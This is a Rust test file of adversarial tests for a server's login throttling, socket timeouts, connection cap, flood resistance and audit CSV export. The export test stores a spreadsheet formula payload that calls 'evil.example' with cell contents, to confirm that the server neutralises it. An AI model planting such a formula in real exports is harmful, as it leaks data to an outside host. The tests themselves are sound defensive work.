//! Adversarial tests, part 2: a server that outlives hostile clients (issue 15) — login
//! throttling before the hash and across processes, the bounded password verifier, timeouts
//! and the connection cap on a real socket, the flood, formula cells in the audit export, the
//! whole export, demo accounts that stay as an administrator left them, and passwords typed
//! without echo.
//!
//! Longer than 500 lines on purpose: each attack needs its own server on a real socket and its
//! own client that misbehaves at the byte level; the cases share the raw-socket helpers here.

mod common;

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode};
use common::*;

/// The flood test runs alone; every other test of this file holds a read guard.
static FLOOD: tokio::sync::RwLock<()> = tokio::sync::RwLock::const_new(());
use http_body_util::BodyExt;
use mutasi_server::auth::client::TrustedProxies;
use mutasi_server::auth::password::{HashLimits, Verifier};
use mutasi_server::auth::throttle::Throttle;
use mutasi_server::db::{Actor, Database, NewAudit, Storage, Store};
use mutasi_server::demo_seed::{seed_accounts, ExistingAccounts};
use mutasi_server::listen::{self, Limits};
use mutasi_server::{app, app_with, AppState, HttpConfig, StaticConfig};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tower::ServiceExt;

/// A login through `router` as if from `peer`, with an optional `X-Forwarded-For`.
async fn login_from(
    router: &axum::Router,
    peer: &str,
    xff: Option<&str>,
    username: &str,
    password: &str,
) -> (StatusCode, Value) {
    let mut req = Request::post("/api/auth/login").header("content-type", "application/json");
    if let Some(x) = xff {
        req = req.header("x-forwarded-for", x);
    }
    let mut req = req
        .body(Body::from(
            json!({"username": username, "password": password}).to_string(),
        ))
        .unwrap();
    let addr: IpAddr = peer.parse().unwrap();
    req.extensions_mut()
        .insert(ConnectInfo(SocketAddr::new(addr, 40000)));
    let res = router.clone().oneshot(req).await.unwrap();
    let status = res.status();
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

/// A router on `store` with the test state, changed by `tune`.
fn router_on(store: Store, tune: impl FnOnce(&mut AppState)) -> axum::Router {
    let mut state = test_state(store);
    tune(&mut state);
    app(state, &StaticConfig::default())
}

#[tokio::test]
async fn a_burst_of_guesses_is_throttled_before_any_hash_and_the_right_password_waits_too() {
    let _beside = FLOOD.read().await;
    let store = seeded_store(Backend::Sqlite).await;
    let router = router_on(store, |_| {});
    // 40 guesses at once from one address: the account's allowance (5) goes through to the
    // password check, the rest are refused before it.
    let calls: Vec<_> = (0..40)
        .map(|i| {
            let router = router.clone();
            tokio::spawn(async move {
                let pw = if i == 30 {
                    password().to_string()
                } else {
                    format!("salah-{i}-xxxxx")
                };
                login_from(&router, "198.51.100.7", None, EMPLOYEE, &pw)
                    .await
                    .0
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for c in calls {
        statuses.push(c.await.unwrap());
    }
    let checked = statuses
        .iter()
        .filter(|s| matches!(**s, StatusCode::UNAUTHORIZED | StatusCode::OK))
        .count();
    let throttled = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert!(
        checked <= Throttle::default().account.free as usize,
        "{statuses:?}"
    );
    assert_eq!(checked + throttled, 40, "{statuses:?}");
    // The right password, now, from anywhere, waits out the delay as well.
    let (status, body) = login_from(&router, "203.0.113.50", None, EMPLOYEE, password()).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert!(body["details"]["retry_after"].as_u64().unwrap() >= 1);
    // Another account is not affected.
    let (status, _) = login_from(&router, "203.0.113.50", None, PLANNER, password()).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn one_address_cannot_spray_guesses_over_many_accounts_and_ipv6_counts_per_64() {
    let _beside = FLOOD.read().await;
    let store = seeded_store(Backend::Sqlite).await;
    let router = router_on(store, |s| {
        s.throttle.address.free = 6;
    });
    // Six wrong guesses over six accounts from one /64 (different addresses in it).
    for (i, user) in ALL_USERS.iter().enumerate() {
        let peer = format!("2001:db8:aa:1::{:x}", i + 1);
        let (status, _) = login_from(&router, &peer, None, user, "salah-sekali-xx").await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{user}");
    }
    // The next attempt from that /64 waits, even with the right password of a fresh account.
    let (status, _) = login_from(&router, "2001:db8:aa:1::99", None, PPK, password()).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    // A neighbouring /64 is another subscriber.
    let (status, _) = login_from(&router, "2001:db8:aa:2::1", None, PPK, password()).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn forwarded_for_is_believed_only_from_the_trusted_proxy() {
    let _beside = FLOOD.read().await;
    let store = seeded_store(Backend::Sqlite).await;
    let router = router_on(store, |s| {
        s.throttle.address.free = 3;
        s.proxies = TrustedProxies::parse("10.0.0.1").unwrap();
    });
    // Behind the proxy, each real client is counted on its own: a client's guesses do not
    // block the others behind the same balancer.
    for user in [EMPLOYEE, OTHER_EMPLOYEE, PLANNER] {
        login_from(
            &router,
            "10.0.0.1",
            Some("198.51.100.1"),
            user,
            "salah-salah-xx",
        )
        .await;
    }
    let (status, _) = login_from(
        &router,
        "10.0.0.1",
        Some("198.51.100.1"),
        CITY_PLANNER,
        password(),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::TOO_MANY_REQUESTS,
        "the guessing client waits"
    );
    let (status, _) = login_from(
        &router,
        "10.0.0.1",
        Some("198.51.100.2"),
        CITY_PLANNER,
        password(),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::OK,
        "another client behind the proxy does not"
    );
    // A direct client cannot escape its count by claiming another address.
    for (i, user) in [EMPLOYEE, OTHER_EMPLOYEE, APPROVER].into_iter().enumerate() {
        let claim = format!("192.0.2.{}", i + 1);
        login_from(&router, "203.0.113.9", Some(&claim), user, "salah-salah-xx").await;
    }
    let (status, _) = login_from(
        &router,
        "203.0.113.9",
        Some("192.0.2.200"),
        ADMIN,
        password(),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn two_server_processes_on_one_database_share_the_count() {
    let _beside = FLOOD.read().await;
    let url = fresh_postgres().await;
    let a = Store::open(Database::parse(&url)).await.unwrap();
    a.import(
        mutasi_server::sync::dataset_records(&mutasi_core::fixture::small()),
        &actor("test"),
    )
    .await
    .unwrap();
    for u in test_accounts() {
        a.create_user(&u).await.unwrap();
    }
    let b = Store::open(Database::parse(&url)).await.unwrap();
    let (ra, rb) = (router_on(a, |_| {}), router_on(b, |_| {}));
    let free = Throttle::default().account.free;
    for i in 0..free {
        let router = if i % 2 == 0 { &ra } else { &rb };
        let peer = format!("198.51.100.{}", i + 1);
        let (status, _) = login_from(router, &peer, None, EMPLOYEE, "salah-salah-xx").await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
    }
    for router in [&ra, &rb] {
        let (status, _) = login_from(router, "203.0.113.1", None, EMPLOYEE, password()).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    }
}

#[tokio::test]
async fn a_success_takes_its_attempt_back() {
    let _beside = FLOOD.read().await;
    let store = seeded_store(Backend::Sqlite).await;
    let router = router_on(store, |_| {});
    // Many successful logins in a row are never throttled.
    for _ in 0..12 {
        let (status, _) = login_from(&router, "198.51.100.3", None, PLANNER, password()).await;
        assert_eq!(status, StatusCode::OK);
    }
}

#[tokio::test]
async fn password_checks_beyond_the_queue_get_503_and_are_not_counted_as_guesses() {
    let _beside = FLOOD.read().await;
    let store = seeded_store(Backend::Sqlite).await;
    let verifier = Arc::new(Verifier::new(HashLimits {
        concurrent: 1,
        queue: 0,
    }));
    let router = router_on(store, |s| s.verifier = verifier.clone());
    // A slow check holds the verifier's only turn (a hash with 64 MiB and 8 passes).
    let slow = {
        use argon2::password_hash::{PasswordHasher, SaltString};
        let params = argon2::Params::new(64 * 1024, 8, 1, None).unwrap();
        let argon =
            argon2::Argon2::new(argon2::Algorithm::Argon2id, argon2::Version::V0x13, params);
        let salt = SaltString::encode_b64(b"lambat-sekali-16").unwrap();
        argon.hash_password(b"x", &salt).unwrap().to_string()
    };
    let holder = {
        let v = verifier.clone();
        tokio::spawn(async move { v.verify("y".into(), slow).await })
    };
    while verifier.in_progress() == 0 {
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    // More refused logins of one account from one address than its allowance of guesses.
    let free = Throttle::default().account.free;
    for _ in 0..=free {
        let (status, body) = login_from(&router, "198.51.100.10", None, EMPLOYEE, password()).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
        assert_eq!(body["error"], "busy");
        assert!(body["details"]["retry_after"].as_u64().unwrap() >= 1);
    }
    assert_eq!(holder.await.unwrap(), Ok(false));
    // They were not guesses: the account logs in at once.
    let (status, body) = login_from(&router, "198.51.100.10", None, EMPLOYEE, password()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

/// A server on a real socket with these limits; returns its address and a stopper.
async fn serve(limits: Limits) -> (SocketAddr, tokio::sync::oneshot::Sender<()>) {
    let store = seeded_store(Backend::Sqlite).await;
    let http = HttpConfig {
        body_timeout: limits.body,
    };
    let router = app_with(test_state(store), &StaticConfig::default(), &http);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(async move {
        listen::serve(listener, router, limits, async {
            let _ = stopped.await;
        })
        .await
        .unwrap();
    });
    (addr, stop)
}

/// `GET /api/health` on a new connection; the status and how long it took.
async fn health(addr: SocketAddr) -> (u16, Duration) {
    let start = Instant::now();
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut raw = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut raw)).await;
    let text = String::from_utf8_lossy(&raw);
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, start.elapsed())
}

/// Whether the server closed `s` within `within` (reads until EOF or an error).
async fn closed_within(s: &mut TcpStream, within: Duration) -> bool {
    let mut buf = [0u8; 1024];
    let deadline = Instant::now() + within;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
            Err(_) => return false,
        }
    }
}

fn quick_limits() -> Limits {
    Limits {
        header: Duration::from_secs(1),
        body: Duration::from_secs(1),
        idle: Duration::from_secs(2),
        max_connections: 64,
    }
}

#[tokio::test]
async fn idle_sockets_and_half_sent_headers_are_closed() {
    let _beside = FLOOD.read().await;
    let (addr, _stop) = serve(quick_limits()).await;
    let mut idle = TcpStream::connect(addr).await.unwrap();
    let mut half = TcpStream::connect(addr).await.unwrap();
    half.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    assert!(
        closed_within(&mut idle, Duration::from_secs(4)).await,
        "idle socket"
    );
    assert!(
        closed_within(&mut half, Duration::from_secs(4)).await,
        "half-sent headers"
    );
    // A kept-alive connection is closed once it waits too long for its next request.
    let mut kept = TcpStream::connect(addr).await.unwrap();
    kept.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 4096];
    let n = kept.read(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    assert!(
        closed_within(&mut kept, Duration::from_secs(4)).await,
        "kept-alive idle"
    );
}

#[tokio::test]
async fn a_trickled_body_is_cut_off_with_408() {
    let _beside = FLOOD.read().await;
    let (addr, _stop) = serve(quick_limits()).await;
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(
        b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{",
    )
    .await
    .unwrap();
    let start = Instant::now();
    let (mut rx, mut tx) = s.into_split();
    // Whatever the server answers, read as it comes (before the connection is torn down).
    let reader = tokio::spawn(async move {
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), rx.read_to_end(&mut answer)).await;
        answer
    });
    // One byte every 300 ms: the body would take a minute.
    for _ in 0..20 {
        tokio::time::sleep(Duration::from_millis(300)).await;
        if tx.write_all(b" ").await.is_err() || reader.is_finished() {
            break;
        }
    }
    let answer = reader.await.unwrap();
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
}

#[tokio::test]
async fn at_the_connection_cap_the_longest_idle_connection_makes_room() {
    let _beside = FLOOD.read().await;
    let mut limits = quick_limits();
    limits.max_connections = 8;
    limits.header = Duration::from_secs(30);
    limits.idle = Duration::from_secs(30);
    let (addr, _stop) = serve(limits).await;
    let mut idle = Vec::new();
    for _ in 0..8 {
        idle.push(TcpStream::connect(addr).await.unwrap());
        // Distinct arrival times, so "the longest idle" is one of them.
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    // Every place is taken by an idle socket; a real request still gets through at once.
    let (status, took) = health(addr).await;
    assert_eq!(status, 200);
    assert!(took < Duration::from_secs(2), "{took:?}");
    // The oldest idle sockets were the ones closed.
    assert!(closed_within(&mut idle[0], Duration::from_secs(1)).await);
}

/// VmRSS of a process, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap()
}

/// The bounded flood of the issue: 1,000 idle sockets and 250 logins at once against the real
/// `mutasi serve` process; health answers within a second throughout, and the memory goes back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_outlives_a_flood_of_idle_sockets_and_logins() {
    // Alone: the other tests of this file start servers and hash passwords on the same
    // cores, and this one measures how fast health answers under its own flood.
    let _alone = FLOOD.write().await;
    rlimit::increase_nofile_limit(8192).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("flood.db");
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_mutasi"))
        .args(["serve", "--addr", "127.0.0.1:0", "--database"])
        .arg(&db)
        .args(["--dist", "/nonexistent", "--trusted-proxy", "127.0.0.1"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let pid = child.id().unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut banner = String::new();
    let addr: SocketAddr = loop {
        let mut buf = [0u8; 512];
        let n = out.read(&mut buf).await.unwrap();
        assert!(n > 0, "server exited: {banner}");
        banner.push_str(&String::from_utf8_lossy(&buf[..n]));
        if let Some(rest) = banner.split("http://").nth(1) {
            if let Some(a) = rest.split_whitespace().next() {
                break a.parse().unwrap();
            }
        }
    };
    assert_eq!(health(addr).await.0, 200);
    // One login first, so the verifier's working memory is part of the figure at rest.
    login_raw(addr, "tidak-ada", "198.51.100.250").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let at_rest = rss_kib(pid);

    let mut sockets = Vec::new();
    for _ in 0..1000 {
        sockets.push(TcpStream::connect(addr).await.unwrap());
    }
    let logins: Vec<_> = (0..250)
        .map(|i| {
            tokio::spawn(login_raw(
                addr,
                Box::leak(format!("tamu-{i}").into_boxed_str()),
                Box::leak(format!("198.51.{}.{}", i / 200, i % 200 + 1).into_boxed_str()),
            ))
        })
        .collect();
    let mut worst = Duration::ZERO;
    for _ in 0..5 {
        let (status, took) = health(addr).await;
        assert_eq!(status, 200);
        worst = worst.max(took);
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let mut answers = std::collections::BTreeMap::<u16, usize>::new();
    for l in logins {
        *answers.entry(l.await.unwrap()).or_default() += 1;
    }
    let peak = rss_kib(pid);
    drop(sockets);
    tokio::time::sleep(Duration::from_secs(1)).await;
    let after = rss_kib(pid);
    let (status, took) = health(addr).await;
    assert_eq!(status, 200);
    worst = worst.max(took);
    eprintln!(
        "flood: health worst {worst:?}; logins {answers:?}; RSS at rest {at_rest} KiB, peak {peak} KiB, after {after} KiB"
    );
    assert!(worst < Duration::from_secs(1), "{worst:?}");
    assert!(answers.get(&401).copied().unwrap_or(0) > 0, "{answers:?}");
    assert_eq!(
        answers
            .iter()
            .filter(|(s, _)| ![401, 503].contains(*s))
            .count(),
        0,
        "unknown users are 401, or 503 beyond the verifier's queue: {answers:?}"
    );
    assert!(after < at_rest + 100 * 1024, "{at_rest} → {after} KiB");
    child.kill().await.ok();
}

/// A login with a spoofed address behind the trusted proxy (loopback); its status.
async fn login_raw(addr: SocketAddr, user: &'static str, client: &'static str) -> u16 {
    let body = json!({"username": user, "password": "salah-salah-salah"}).to_string();
    let Ok(mut s) = TcpStream::connect(addr).await else {
        return 0;
    };
    let head = format!(
        "POST /api/auth/login HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nX-Forwarded-For: {client}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    if s.write_all(head.as_bytes()).await.is_err() || s.write_all(body.as_bytes()).await.is_err() {
        return 0;
    }
    let mut raw = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(60), s.read_to_end(&mut raw)).await;
    String::from_utf8_lossy(&raw)
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

#[tokio::test]
async fn the_audit_export_neutralises_formulas_and_holds_every_row() {
    let _beside = FLOOD.read().await;
    let app = TestApp::new(Backend::Sqlite).await;
    let siti = app.login(EMPLOYEE).await;
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")";
    let v = app
        .version(
            mutasi_core::wire::sync::RecordKind::Employee,
            mutasi_core::fixture::nips::GURU_PLT,
        )
        .await;
    let mut op = set_preferences(mutasi_core::fixture::nips::GURU_PLT, v, &["SDN-002"]);
    op["reason"] = json!(evil);
    let r = app.post("/api/sync/push", Some(&siti), &batch(&[op])).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    // More rows than one page of the export (and than the old cap would notice).
    let actor = Actor {
        user_id: String::new(),
        username: "cli".into(),
        role: mutasi_core::wire::auth::Role::Admin,
    };
    for i in 0..2_345 {
        app.store
            .append_audit(&NewAudit {
                actor: actor.clone(),
                action: "test".into(),
                target: format!("x/{i}"),
                reason: Some(if i % 2 == 0 {
                    "+1".into()
                } else {
                    "@cmd".into()
                }),
                change: json!({}),
                nip: None,
                opd: Vec::new(),
            })
            .await
            .unwrap();
    }
    let admin = app.login(ADMIN).await;
    let csv = app.get("/api/audit.csv", Some(&admin)).await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    // Every entry of the trail, as the JSON API pages it.
    let mut total = 0;
    let mut since = 0;
    loop {
        let page = app
            .get(
                &format!("/api/audit?since={since}&limit=1000"),
                Some(&admin),
            )
            .await;
        let entries = page.json["entries"].as_array().unwrap();
        total += entries.len();
        since = page.json["cursor"].as_u64().unwrap();
        if !page.json["more"].as_bool().unwrap() {
            break;
        }
    }
    assert_eq!(rows.len(), total);
    assert!(total > 2_345);
    // No cell starts a formula; the evil reason is there, as text.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(mutasi_core::io::formula::FORMULA_START),
                "{cell}"
            );
        }
    }
    assert!(rows
        .iter()
        .any(|r| r.iter().any(|c| c == format!("'{evil}"))));
}

#[tokio::test]
async fn demo_seeding_keeps_passwords_and_never_enables_a_disabled_account() {
    let _beside = FLOOD.read().await;
    let store = Store::open_memory().await.unwrap();
    let ds = mutasi_core::fixture::small();
    store
        .import(mutasi_server::sync::dataset_records(&ds), &actor("test"))
        .await
        .unwrap();
    let first = seed_accounts(&store, &ds, ExistingAccounts::Keep)
        .await
        .unwrap();
    assert!(first.iter().all(|a| a.password.is_some()));
    let admin_pw = first
        .iter()
        .find(|a| a.username == "admin")
        .and_then(|a| a.password.clone())
        .unwrap();
    store.set_disabled("approver", true).await.unwrap();
    // A second process (or a restart) leaves every account as it is.
    let second = seed_accounts(&store, &ds, ExistingAccounts::Keep)
        .await
        .unwrap();
    assert!(second.iter().all(|a| a.password.is_none()));
    let user = store.user_by_name("admin").await.unwrap();
    assert!(mutasi_server::auth::verify_password(
        &admin_pw,
        &user.password_hash
    ));
    // Even the local demo's reset leaves a disabled account disabled.
    let third = seed_accounts(&store, &ds, ExistingAccounts::ResetPasswords)
        .await
        .unwrap();
    let approver = third.iter().find(|a| a.username == "approver").unwrap();
    assert!(approver.disabled && approver.password.is_none());
    assert!(store.user_by_name("approver").await.unwrap().disabled);
    let admin = third.iter().find(|a| a.username == "admin").unwrap();
    assert!(admin.password.is_some());
}

#[tokio::test]
async fn mutasi_user_reads_the_password_without_echo() {
    let _beside = FLOOD.read().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("users.db");
    let secret = "rahasia-tidak-terlihat-42";
    let cmd = format!(
        "{} user add budi --role admin --database {}",
        env!("CARGO_BIN_EXE_mutasi"),
        db.display()
    );
    // `script` gives the command a terminal of its own.
    let mut child = tokio::process::Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut seen = String::new();
    for prompt in ["Password:", "Repeat:"] {
        while !seen.contains(prompt) {
            let mut buf = [0u8; 256];
            let n = tokio::time::timeout(Duration::from_secs(20), stdout.read(&mut buf))
                .await
                .expect("a prompt")
                .unwrap();
            assert!(n > 0, "ended early: {seen}");
            seen.push_str(&String::from_utf8_lossy(&buf[..n]));
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        stdin
            .write_all(format!("{secret}\n").as_bytes())
            .await
            .unwrap();
        seen = seen.replace(prompt, "");
    }
    let mut rest = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), stdout.read_to_string(&mut rest)).await;
    seen.push_str(&rest);
    let status = child.wait().await.unwrap();
    assert!(status.success(), "{seen}");
    assert!(!seen.contains(secret), "the password was echoed: {seen}");
    let store = Store::open_sqlite(&db).await.unwrap();
    let user = store.user_by_name("budi").await.unwrap();
    assert!(mutasi_server::auth::verify_password(
        secret,
        &user.password_hash
    ));
}

#[tokio::test]
async fn the_audit_export_streams_to_its_end_over_a_real_connection() {
    let _beside = FLOOD.read().await;
    // Regression: the streamed body was polled once more after its end by the HTTP layer,
    // which a plain `unfold` stream answers with a panic (an empty reply to the browser).
    let (addr, _stop) = serve(Limits::default()).await;
    let (_, login) = http(
        addr,
        "POST",
        "/api/auth/login",
        None,
        Some(&json!({"username": ADMIN, "password": password()})),
        Duration::from_secs(10),
    )
    .await;
    let token = login["token"].as_str().unwrap();
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(
        format!(
            "GET /api/audit.csv HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept-Encoding: gzip\r\nAuthorization: Bearer {token}\r\n\r\n"
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let mut raw = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut raw))
        .await
        .unwrap()
        .unwrap();
    let text = String::from_utf8_lossy(&raw);
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
    assert!(
        text.to_ascii_lowercase().contains("content-encoding: gzip"),
        "{text}"
    );
    assert!(
        raw.ends_with(b"0\r\n\r\n"),
        "the chunked body ends properly: {text}"
    );
}
